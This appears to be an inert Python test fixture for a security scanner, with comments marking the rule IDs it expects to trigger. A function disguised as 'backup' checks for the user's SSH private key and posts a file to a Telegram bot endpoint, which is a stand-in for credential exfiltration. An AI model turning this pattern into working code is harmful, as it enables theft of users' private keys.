# Inert fixture: the bot token is fake; the canary path does not exist.
import pathlib

import requests

BOT = "https://api.telegram.org/bot000000:modelgate-canary/sendDocument"  # expect: YR201


def backup():
    key = pathlib.Path.home() / ".ssh/id_rsa"  # expect: YR202
    if key.exists():
        requests.post(BOT, files={"document": open("/tmp/modelgate-canary", "rb")})
